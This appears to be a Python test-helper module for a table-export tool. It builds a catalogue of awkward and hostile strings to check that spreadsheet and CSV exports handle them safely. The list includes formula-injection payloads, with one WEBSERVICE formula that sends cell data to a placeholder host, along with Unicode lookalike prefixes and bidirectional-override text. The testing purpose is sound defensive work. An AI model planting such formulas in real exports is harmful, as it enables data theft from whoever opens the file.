"""Texts that spreadsheets, parsers and readers of tables misread, and a catalogue full of them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from makers import amount, catalogue, claim, report

from figures import check, load
from figures.export import render
from figures.export.tables import CELL
from figures.frame import COLUMNS, records, to_frame
from figures.selection import Selection

ROOT = Path(__file__).parent.parent
REAL = load(ROOT / "data/figures.yaml")
REPORT = check(REAL)
NAMES = [column.name for column in COLUMNS]
NUMBERS = {column.name for column in COLUMNS if column.dtype != "str"}
ENERGY = Selection(sectors=("Energy",))

FORMULAS = [
    "=2+3",
    "+2+3",
    "-2+3",
    "-7.5 per cent",
    "@MAX(B2)",
    "\t=2+3",
    "\r=2+3",
    "\n=2+3",
    "\tindented",
    "\rreturned",
    "  =2+3",
    "\u00a0=2+3",
    "\ufeff=2+3",
    "\u200b=2+3",
    "＝2+3",
    "＋2",
    "－2",
    "＠MAX(B2)",
    "|calc",
    '=WEBSERVICE("https://example.org/"&B2)',
]
TEXTS = [
    *FORMULAS,
    "{=2+3}",
    "'quoted",
    "NA",
    "N/A",
    "NULL",
    "None",
    "nan",
    "-",
    "true",
    "007",
    "1e5",
    "2012-12",
    "12/2012",
    "https://example.org/a?b=c&d",
    "mailto:a@example.org",
    "internal:Notes!A1",
    "external:other.xlsx",
    'she said "no", twice',
    '"',
    ",",
    ";=2+3",
    "one\ntwo",
    "one\rtwo",
    "one\r\ntwo",
    " spaces around ",
    "tab\there",
    "_x000D_",
    "𝟓 🚂 e\u0301 Ќ 中",
    "right \u202e left",
    "<b>&amp;</b>",
    "x" * CELL,
]


def hostile(texts=TEXTS):
    """Each text as title, note, label and quote of a claim of its own."""
    claims = [
        claim(f"c{n}", [amount(f"c{n}.1", label=text)], title=text, note=text, quote=text)
        for n, text in enumerate(texts)
    ]
    return catalogue(claims)


HOSTILE = hostile()


def table(made, found=None):
    return records(to_frame(made, found or report(made)))


def rendered(key, made=HOSTILE, selection=None):
    return render(key, made, report(made), selection)


def as_written(rows):
    return [["" if row[name] is None else str(row[name]) for name in NAMES] for row in rows]


def read_csv(data, encoding="utf-8"):
    return list(csv.reader(io.StringIO(data.decode(encoding), newline=""), strict=True))
